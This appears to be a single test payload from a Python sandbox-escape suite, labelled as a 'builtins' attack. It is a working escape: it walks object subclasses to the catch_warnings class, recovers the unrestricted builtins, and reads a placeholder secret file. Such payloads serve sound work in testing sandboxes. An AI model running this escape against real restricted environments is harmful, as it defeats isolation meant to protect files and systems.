# category: builtins
# attack: warnings.catch_warnings._module.__builtins__ open
# profile: basic
for c in object.__subclasses__():
    if c.__name__ == "catch_warnings":
        b = c()._module.__builtins__
        print(b["open"]("@SECRET_FILE@").read())
